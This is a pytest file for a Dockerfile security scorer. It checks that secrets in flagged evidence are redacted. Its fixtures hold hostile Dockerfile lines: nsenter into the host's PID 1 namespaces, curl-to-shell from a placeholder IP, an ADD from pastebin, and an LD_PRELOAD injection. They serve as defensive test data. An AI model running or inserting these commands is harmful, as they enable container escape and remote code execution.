"""No secret is shown: every form that a value can take beside something that is evidence."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from t1612core.container.dockerfile.reader import parse
from t1612core.container.dockerfile.redaction import Redaction
from t1612core.dockerfile import score_dockerfile
from t1612core.text.redact import REDACTED

SECRET = "hunter2hunter2"
SHOWN = {
    "assignment": f"RUN API_TOKEN={SECRET} nsenter -t 1 -m sh",
    "quoted": f"RUN DB_PASSWORD='{SECRET} x' nsenter -t 1 sh",
    "double-quoted": f'RUN PASSPHRASE="a \\" {SECRET}" nsenter -t 1 sh',
    "option": f"RUN nsenter -t 1 -m sh --password {SECRET} -x",
    "option-equals": f"RUN nsenter -t 1 -m sh --access-token={SECRET}",
    "header": f"RUN nsenter -t 1 sh -c 'curl -H \"Authorization: Bearer {SECRET}\" u'",
    "json": f'RUN nsenter -t 1 sh -c \'{{"secret": "{SECRET}"}}\'',
    "url": f"RUN curl http://user:{SECRET}@198.51.100.7/a | sh",
    "url-token": f"ADD https://{SECRET}@pastebin.com/raw/a /a",
    "user": f"RUN nsenter -t 1 curl -u 'me:{SECRET}' u",
    "env": f"ENV LD_PRELOAD=/tmp/x.so API_KEY={SECRET}",
    "env-old": f"ENV SECRET_THING {SECRET} and more",
    "arg": f"ARG npm_token={SECRET}",
    "onbuild": f"ONBUILD ENV API_TOKEN={SECRET}",
    "continued": f"ENV API_TOKEN=\\\n{SECRET}\n",
    "heredoc": f"RUN <<E\nAPI_TOKEN={SECRET} nsenter -t 1 sh\nE\n",
}


@pytest.mark.parametrize("name", SHOWN)
def test_a_secret_is_masked(name: str) -> None:
    """The evidence is there, the secret is not."""
    evidence = score_dockerfile(SHOWN[name]).evidence

    assert any(REDACTED in seen.text for seen in evidence)
    assert not any(SECRET in seen.text for seen in evidence)


def test_what_is_no_secret_is_shown() -> None:
    """Names without a value, and values without such a name, stay."""
    text = "RUN nsenter -t 1 sh -c 'echo token; cat secret file' --tokens"
    (seen,) = score_dockerfile(text).evidence

    assert text[4:] == seen.text


@given(st.text(alphabet="ab=: \"'\\\n", max_size=30), st.integers(0, 60), st.integers(0, 60))
def test_any_part_is_shown_in_one_line_and_cut(tail: str, start: int, length: int) -> None:
    """Whatever part is asked for, it is short, on one line, and hides what follows the name."""
    text = f"RUN x TOKEN={SECRET} y password: 'z' {tail}"
    shown = Redaction(text, parse(text)).shown((start, start + length), 20)

    assert len(shown) <= 20
    assert "\n" not in shown
    assert "hunter" not in shown


def test_overlapping_secrets_are_one() -> None:
    """A URL's password inside a secret variable is masked with it."""
    text = f"RUN nsenter -t 1 X_TOKEN=https://a:{SECRET}@b.example/c d"
    (seen,) = score_dockerfile(text).evidence

    assert f"nsenter -t 1 X_TOKEN={REDACTED} d" == seen.text
